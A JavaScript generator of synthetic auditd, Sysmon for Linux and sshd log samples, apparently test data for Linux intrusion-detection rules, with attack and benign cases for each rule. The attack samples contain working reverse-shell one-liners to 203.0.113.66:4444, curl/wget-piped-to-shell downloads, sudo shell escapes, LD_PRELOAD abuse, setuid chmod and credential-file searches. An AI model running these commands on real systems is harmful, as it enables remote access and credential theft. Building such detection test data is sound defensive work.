// Writes the Linux samples in this folder: auditd, Sysmon for Linux and sshd logs.
import { hex, later, times, writeSamples } from '../samples.js';

const START = '2026-10-09T06:05:00Z';
const HOST = 'app-031.example.com';
const seconds = (at) => Date.parse(START) / 1000 + at;

let serial = 4100;
/** Time and serial number of an audit event; its records share them. */
const stamp = (at) => `msg=audit(${seconds(at)}.${String(100 + (at % 800)).padStart(3, '0')}:${(serial += 7)})`;
const node = (text) => `node=${HOST} ${text}`;

const NAMES = { 0: 'root', 1000: 'ole', 1001: 'mira', 4294967295: 'unset' };
const quoted = (word) => (/[\s"]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`);

const execve = (at, ...words) => node(`type=EXECVE ${stamp(at)}: argc=${words.length} ${words.map((word, index) => `a${index}=${quoted(word)}`).join(' ')}`);
const proctitle = (at, ...words) => node(`type=PROCTITLE ${stamp(at)}: proctitle=${Buffer.from(words.join('\0')).toString('hex').toUpperCase()}`);
const path = (at, name, nametype, item = 1) => node(`type=PATH ${stamp(at)}: item=${item} name="${name}" inode=${20000 + at} dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=${nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0 OUID="root" OGID="root"`);
function syscall(at, comm, exe, { auid = 1000, success = 'yes', tty = 'pts1', call = 'execve', number = 59, key = 'exec' } = {}) {
  const who = NAMES[auid];
  return node(`type=SYSCALL ${stamp(at)}: arch=c000003e syscall=${number} success=${success} exit=${success === 'yes' ? 0 : -1} a0=${hex(comm, 12)} a1=${hex(exe, 12)} a2=0 a3=0 items=2 ppid=2210 pid=${2300 + at} auid=${auid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=${tty} ses=${auid === 4294967295 ? 4294967295 : 3} comm="${comm}" exe="${exe}" subj=unconfined key="${key}" ARCH=x86_64 SYSCALL=${call} AUID="${who}" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"`);
}
const daemon = { auid: 4294967295, tty: '(none)' };
function account(at, type, op, { id = 1004, auid = 1000, result = 'success', exe = '/usr/sbin/useradd' } = {}) {
  return node(`type=${type} ${stamp(at)}: pid=${3100 + at} uid=0 auid=${auid} ses=${auid === 4294967295 ? 4294967295 : 3} subj=unconfined msg='op=${op} id=${id} exe="${exe}" hostname=app-031 addr=? terminal=pts/1 res=${result}'\x1dUID="root" AUID="${NAMES[auid]}" ID="unknown(${id})"`);
}
function service(at, type, unit, result = 'success') {
  return node(`type=${type} ${stamp(at)}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=${result}'\x1dUID="root" AUID="unset"`);
}

const xml = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
/** A Sysmon for Linux event, as written to syslog. */
function sysmon(at, id, version, data) {
  const time = later(START, at);
  const fields = Object.entries(data).map(([name, value]) => `<Data Name="${name}">${xml(String(value))}</Data>`);
  return `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>${version}</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time.replace('Z', '000000Z')}"/><EventRecordID>${500000 + at}</EventRecordID><Correlation/><Execution ProcessID="911" ThreadID="911"/><Channel>Linux-Sysmon/Operational</Channel><Computer>${HOST}</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">${time.replace('T', ' ').replace('Z', '')}</Data>${fields.join('')}</EventData></Event>`;
}
const guid = (seed) => `{${hex(seed, 8)}-${hex(seed, 12).slice(8)}-6710-${hex(seed, 20).slice(16)}-${hex(seed, 32).slice(20)}}`;
function started(at, image, commandLine, { user = 'ole', parent = '/usr/bin/bash', parentLine = '-bash', folder = '/home/ole' } = {}) {
  return sysmon(at, 1, 5, {
    ProcessGuid: guid(`${at}${image}`), ProcessId: 6000 + at, Image: image, FileVersion: '-', Description: '-', Product: '-', Company: '-', OriginalFileName: '-',
    CommandLine: commandLine, CurrentDirectory: folder, User: user, LogonGuid: guid(user), LogonId: user === 'root' ? 0 : 1000, TerminalSessionId: 3, IntegrityLevel: 'no level', Hashes: '-',
    ParentProcessGuid: guid(parent), ParentProcessId: 2210, ParentImage: parent, ParentCommandLine: parentLine, ParentUser: user,
  });
}
function created(at, image, file, { user = 'root', age = 0 } = {}) {
  const creation = later(START, at - age).replace('T', ' ').replace('Z', '');
  return sysmon(at, 11, 2, { ProcessGuid: guid(`${at}${image}`), ProcessId: 6000 + at, Image: image, TargetFilename: file, CreationUtcTime: creation, User: user });
}

const sshd = (at, message, port = 50000 + at) => {
  const time = new Date(Date.parse(START) + at * 1000);
  const clock = time.toISOString().slice(11, 19);
  return `Oct  9 ${clock} app-031 sshd[${4400 + (at % 500)}]: ${message.replace('PORT', port)}`;
};

const SUDO = '/usr/bin/sudo';
const sudoSamples = {
  'sudo_escape/attack.log': [
    started(0, SUDO, 'sudo find /etc -name hosts -exec /bin/sh ;'),
    started(9, SUDO, 'sudo vim -c :!/bin/bash'),
    started(15, SUDO, 'sudo awk BEGIN {system("/bin/sh")}'),
    started(22, SUDO, 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh'),
    started(30, SUDO, 'sudo python3 -c import os; os.system("/bin/sh")', { user: 'mira' }),
  ],
  'sudo_escape/normal_use.log': [
    started(0, SUDO, 'sudo find /var/log -name *.gz -mtime +30 -exec rm {} ;'),
    started(2, SUDO, 'sudo find /srv/old -type f -exec /usr/bin/shred -u {} ;'),
    started(4, SUDO, 'sudo vim /etc/hosts'),
    started(8, SUDO, 'sudo tar -czf /backup/etc.tgz /etc'),
    started(12, SUDO, 'sudo awk -F: {print $1} /etc/shadow'),
    started(20, SUDO, 'sudo python3 /opt/app/manage.py migrate'),
  ],
  'sudo_escape/without_sudo.log': [
    started(0, '/usr/bin/vim', 'vim -c :!/bin/bash', {}),
    started(3, '/usr/bin/env', '/usr/bin/env python3 -c import os; os.system("ls")'),
    started(4, '/usr/bin/su', 'su - build -c python3 -c import os; os.system("make")'),
    started(6, '/usr/bin/python3', 'python3 -c import os; os.system("/bin/sh")', { user: 'jenkins', parent: '/usr/lib/jvm/bin/java', parentLine: 'java -jar agent.jar' }),
  ],
};

const preloadSamples = {
  'sudo_ld_preload/attack.log': [
    execve(0, 'sudo', 'LD_PRELOAD=/tmp/.x/libroot.so', 'find'),
    execve(8, '/usr/bin/sudo', '-u', 'root', 'LD_PRELOAD=./evil.so', '/usr/sbin/service', 'ssh', 'status'),
  ],
  'sudo_ld_preload/other_variables.log': [
    execve(0, 'sudo', 'LD_LIBRARY_PATH=/opt/oracle/lib', '/opt/oracle/bin/sqlplus'),
    execve(3, 'sudo', 'grep', '-r', 'LD_PRELOAD', '/etc'),
    execve(5, 'sudo', 'systemctl', 'restart', 'redis'),
  ],
  'sudo_ld_preload/without_sudo.log': [
    execve(0, 'env', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'redis-server', '/etc/redis/redis.conf'),
    syscall(4, 'sudo', SUDO),
  ],
};

const sshFileSamples = {
  'ssh_files/attack.log': [path(0, '/home/ole/.ssh/authorized_keys', 'CREATE'), path(9, '/root/.ssh/authorized_keys2', 'CREATE'), path(20, '/etc/ssh/sshd_config.d/99-x.conf', 'CREATE'), path(27, '/etc/ssh/sshd_config', 'DELETE')],
  'ssh_files/read_or_upgraded.log': [path(0, '/home/ole/.ssh/authorized_keys', 'NORMAL', 0), path(2, '/etc/ssh/sshd_config', 'NORMAL', 0), path(5, '/etc/ssh/sshd_config.dpkg-new', 'CREATE'), path(6, '/etc/ssh/moduli.dpkg-tmp', 'DELETE'), path(8, '/etc/ssh/sshd_config.rpmnew', 'CREATE')],
  'ssh_files/other_files.log': [path(0, '/home/ole/.ssh/known_hosts', 'CREATE'), path(4, '/etc/hosts', 'CREATE'), path(6, '/srv/docs/etc/ssh/howto.md', 'CREATE'), execve(8, 'ssh-copy-id', 'ole@app-032')],
};

const chmodSamples = {
  'chmod_world_writable/attack.log': [
    proctitle(0, 'chmod', '777', '/var/www/html/upload.php'),
    proctitle(4, '/usr/bin/chmod', '-R', '0777', '/opt/app'),
    proctitle(8, 'chmod', 'a+rwx', '/tmp/x'),
    proctitle(11, 'chmod', 'u+s', '/tmp/.x/bash'),
    proctitle(15, 'chmod', '4755', '/var/tmp/find'),
  ],
  'chmod_world_writable/restricted.log': [proctitle(0, 'chmod', '755', '/opt/app/run.sh'), proctitle(2, 'chmod', 'u+x', 'build.sh'), proctitle(4, 'chmod', '600', '/home/ole/.ssh/id_ed25519'), proctitle(6, 'chmod', '0644', '/srv/777/index.html'), proctitle(8, 'chmod', 'o-w', '/opt/app')],
  'chmod_world_writable/other_programs.log': [proctitle(0, 'chown', '777', '/opt/app'), proctitle(3, 'find', '/', '-perm', '-4000'), execve(5, 'chmod', '777', '/tmp/x'), proctitle(9, 'fchmod', '777', '/tmp/y')],
};

const moduleSamples = {
  'kernel_module_loaded/attack.log': [syscall(0, 'insmod', '/usr/bin/kmod', { call: 'finit_module', number: 313, key: 'modules' }), syscall(40, 'insmod', '/usr/bin/busybox', { auid: 1001, call: 'init_module', number: 175, key: 'modules' })],
  'kernel_module_loaded/by_the_system.log': [syscall(0, 'insmod', '/usr/bin/kmod', { ...daemon, call: 'finit_module', number: 313, key: 'modules' }), syscall(2, 'systemd-udevd', '/usr/bin/udevadm', { ...daemon, call: 'finit_module', number: 313, key: 'modules' })],
  'kernel_module_loaded/failed_or_other.log': [syscall(0, 'insmod', '/usr/bin/kmod', { success: 'no', call: 'finit_module', number: 313, key: 'modules' }), syscall(5, 'modinfo', '/usr/bin/kmod'), syscall(7, 'install', '/usr/bin/install'), syscall(9, 'rmmod', '/usr/bin/kmod', { call: 'delete_module', number: 176, key: 'modules' })],
  'kernel_modules_listed/attack.log': [syscall(0, 'lsmod', '/usr/bin/kmod'), syscall(40, 'lsmod', '/usr/bin/kmod', { auid: 1001, tty: 'tty1' })],
  'kernel_modules_listed/by_the_system.log': [syscall(0, 'lsmod', '/usr/bin/kmod', { auid: 1000, tty: '(none)' }), syscall(3, 'lsmod', '/usr/bin/kmod', daemon)],
  'kernel_modules_listed/other_programs.log': [syscall(0, 'modinfo', '/usr/bin/kmod'), syscall(2, 'lsblk', '/usr/bin/lsblk'), syscall(4, 'lsmem', '/usr/bin/lsmem')],
};

const accountSamples = {
  'account_added/attack.log': [account(0, 'ADD_USER', 'adding user'), account(30, 'ADD_USER', 'add-user', { id: 1000, auid: 1001 })],
  'account_added/by_packages.log': [account(0, 'ADD_USER', 'adding user', { id: 998 }), account(2, 'ADD_USER', 'adding user', { id: 999 }), account(9, 'ADD_USER', 'adding user', { id: 1006, auid: 4294967295 })],
  'account_added/failed_or_group.log': [account(0, 'ADD_USER', 'adding user', { result: 'failed' }), account(3, 'ADD_GROUP', 'adding group', { id: 1004, exe: '/usr/sbin/groupadd' }), account(5, 'DEL_USER', 'deleting user', { id: 1004, exe: '/usr/sbin/userdel' })],
};

const storeSamples = {
  'credential_file_search/attack.log': [execve(0, 'find', '/', '-name', '*.kdbx'), execve(3, 'grep', '-rE', '\\.git-credentials$', '/home'), execve(6, 'locate', '.vault-token'), execve(9, '/usr/bin/find', '/home', '-iname', '.aws/credentials')],
  'credential_file_search/other_searches.log': [execve(0, 'find', '/var/log', '-name', '*.gz'), execve(2, 'grep', '-r', 'password', '/etc/app'), execve(4, 'locate', 'kdb.h')],
  'credential_file_search/legitimate_use.log': [execve(0, 'keepassxc', '/home/ole/work.kdbx'), execve(2, 'tar', '-czf', '/backup/ole.tgz', '/home/ole/work.kdbx'), execve(4, 'cat', '/home/ole/.vault-token')],
};

const units = ['nginx', 'redis', 'postgresql', 'cron', 'rsyslog', 'auditd', 'ssh', 'snapd', 'dbus', 'polkit'];
const serviceSamples = {
  'security_service_stopped/attack.log': [service(0, 'SERVICE_STOP', 'auditd'), service(10, 'SERVICE_STOP', 'nginx'), service(140, 'SERVICE_STOP', 'falcon-sensor'), ...units.slice(0, 9).map((unit) => service(250, 'SERVICE_STOP', unit === 'auditd' ? 'osqueryd' : unit)), service(420, 'SERVICE_STOP', 'fail2ban'), ...times(10, (index) => service(421, 'SERVICE_START', `app@${index}`))],
  'security_service_stopped/restart_or_reboot.log': [service(0, 'SERVICE_STOP', 'rsyslog'), service(2, 'SERVICE_START', 'rsyslog'), ...units.map((unit) => service(120, 'SERVICE_STOP', unit))],
  'security_service_stopped/other_or_failed.log': [service(0, 'SERVICE_STOP', 'atd'), service(4, 'SERVICE_STOP', 'postgresql'), service(8, 'SERVICE_STOP', 'auditd', 'failed'), service(200, 'SERVICE_START', 'auditd')],
};

const web = { user: 'www-data', parent: '/usr/sbin/php-fpm8.2', parentLine: 'php-fpm: pool www', folder: '/var/www/html' };
const shellSamples = {
  'reverse_shell/attack.log': [
    started(0, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', web),
    started(5, '/usr/bin/ncat', 'ncat 203.0.113.66 4444 -e /bin/sh', web),
    started(9, '/usr/bin/python3', 'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.66",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])', web),
    started(14, '/usr/bin/socat', 'socat TCP:203.0.113.66:4444 EXEC:/bin/bash,pty,stderr', web),
    started(19, '/usr/bin/bash', 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f', web),
  ],
  'reverse_shell/network_checks.log': [
    started(0, '/usr/bin/bash', 'bash -c echo > /dev/tcp/db-01.example.com/5432'),
    started(4, '/usr/bin/ncat', 'nc -zv db-01.example.com 5432'),
    started(8, '/usr/bin/python3', 'python3 -c import socket;socket.create_connection(("db-01.example.com",5432))'),
    started(10, '/usr/bin/python3', 'python3 server.py --socket /run/app.sock --publish'),
    started(11, '/usr/bin/rsync', 'rsync -e ssh -c /srv/data/ web-02.example.com:/srv/data/'),
    started(12, '/usr/bin/socat', 'socat TCP-LISTEN:8080,fork TCP:web-02.example.com:80'),
  ],
  'reverse_shell/plain_shells.log': [started(0, '/usr/bin/bash', 'bash -i'), started(3, '/usr/bin/bash', 'sh -c mkfifo /run/app/queue'), started(7, '/usr/bin/docker', 'docker exec -it web /bin/sh')],
};

const pipeSamples = {
  'download_piped_to_shell/attack.log': [
    started(0, '/usr/bin/bash', 'bash -c curl -fsSL http://203.0.113.66/i.sh | bash', web),
    started(6, '/usr/bin/dash', 'sh -c wget -qO- https://203.0.113.66:8443/x|sudo sh', web),
    started(12, '/usr/bin/bash', 'bash -c (curl -s http://cdn.example.net/ldr.sh || wget -qO- http://cdn.example.net/ldr.sh) | sh', web),
  ],
  'download_piped_to_shell/installers.log': [
    started(0, '/usr/bin/bash', 'bash -c curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y'),
    started(5, '/usr/bin/bash', 'bash -c curl -fsSL https://get.docker.com | sudo sh'),
  ],
  'download_piped_to_shell/other_pipes.log': [
    started(0, '/usr/bin/bash', 'bash -c curl -s http://203.0.113.66/health | jq .status'),
    started(3, '/usr/bin/curl', 'curl -O http://203.0.113.66/i.sh'),
    started(6, '/usr/bin/bash', 'bash -c cat deploy.sh | ssh web-02.example.com bash'),
    started(9, '/usr/bin/bash', 'bash -c curl -s http://203.0.113.66/list | shuf -n 1'),
  ],
};

const cronSamples = {
  'cron_file/attack.log': [created(0, '/usr/bin/bash', '/etc/cron.d/sysupdate'), created(7, '/usr/bin/curl', '/etc/cron.hourly/.log'), created(12, '/tmp/.x/kworker', '/var/spool/cron/crontabs/root')],
  'cron_file/packages_and_crontab.log': [created(0, '/usr/bin/dpkg', '/etc/cron.d/certbot.dpkg-new'), created(3, '/usr/bin/crontab', '/var/spool/cron/crontabs/tmp.Xq1Zr2', { user: 'ole' }), created(6, '/usr/bin/rpm', '/etc/cron.daily/logrotate')],
  'cron_file/other_paths_or_edited.log': [created(0, '/usr/bin/bash', '/home/ole/cron.d/notes.txt', { user: 'ole' }), created(4, '/usr/bin/vim', '/etc/cron.d/backup', { age: 86400 }), created(8, '/usr/bin/bash', '/var/log/cron.log')],
};

const failed = (at, user, ip, kind = '') => sshd(at, `Failed password for ${kind}${user} from ${ip} port PORT ssh2`);
const accepted = (at, user, ip, method = 'password') => sshd(at, `Accepted ${method} for ${user} from ${ip} port PORT ssh2${method === 'publickey' ? ': ED25519 SHA256:9mC1x0Jr7m2f' : ''}`);
const guessSamples = {
  'ssh_brute_force/attack.log': [...times(10, (index) => failed(index * 6, index % 2 ? 'root' : 'ole', '203.0.113.66')), accepted(70, 'ole', '203.0.113.66')],
  'ssh_brute_force/no_success.log': [...times(14, (index) => failed(index * 5, 'admin', '203.0.113.66', 'invalid user ')), accepted(90, 'ole', '198.51.100.40', 'publickey'), accepted(1900, 'ole', '203.0.113.66')],
  'ssh_brute_force/script_after_login.log': [accepted(0, 'ole', '198.51.100.40', 'publickey'), accepted(9, 'ole', '198.51.100.40', 'publickey'), ...times(12, (index) => failed(30 + index * 60, 'backup', '198.51.100.40'))],
  'ssh_brute_force/mistyped.log': [...times(9, (index) => failed(index * 8, 'ole', '198.51.100.40')), accepted(90, 'ole', '198.51.100.40')],
};
const typedSamples = {
  'password_as_user_name/attack.log': [sshd(0, 'Invalid user Winter7h from 198.51.100.40 port PORT'), accepted(9, 'ole', '198.51.100.40')],
  'password_as_user_name/ordinary_names.log': [
    sshd(0, 'Invalid user oleberg7 from 198.51.100.40 port PORT'), accepted(8, 'ole', '198.51.100.40'),
    sshd(300, 'Invalid user DEPLOY2024 from 198.51.100.41 port PORT'), accepted(309, 'deploy', '198.51.100.41'),
    sshd(600, 'Invalid user OleBergHome from 198.51.100.42 port PORT'), accepted(609, 'ole', '198.51.100.42'),
    sshd(900, 'Invalid user Ab3xyz7 from 198.51.100.43 port PORT'), accepted(909, 'ole', '198.51.100.43'),
  ],
  'password_as_user_name/no_login.log': [
    sshd(0, 'Invalid user Winter7Harbour from 203.0.113.66 port PORT'), accepted(9, 'ole', '198.51.100.40'),
    sshd(300, 'Invalid user Summer7Harbour from 198.51.100.44 port PORT'), accepted(700, 'ole', '198.51.100.44'),
    failed(900, 'Spring7Harbour', '198.51.100.45'), accepted(905, 'Spring7Harbour', '198.51.100.45'),
  ],
};

writeSamples(import.meta.url, {
  ...sudoSamples,
  ...preloadSamples,
  ...sshFileSamples,
  ...chmodSamples,
  ...moduleSamples,
  ...accountSamples,
  ...storeSamples,
  ...serviceSamples,
  ...shellSamples,
  ...pipeSamples,
  ...cronSamples,
  ...guessSamples,
  ...typedSamples,
});
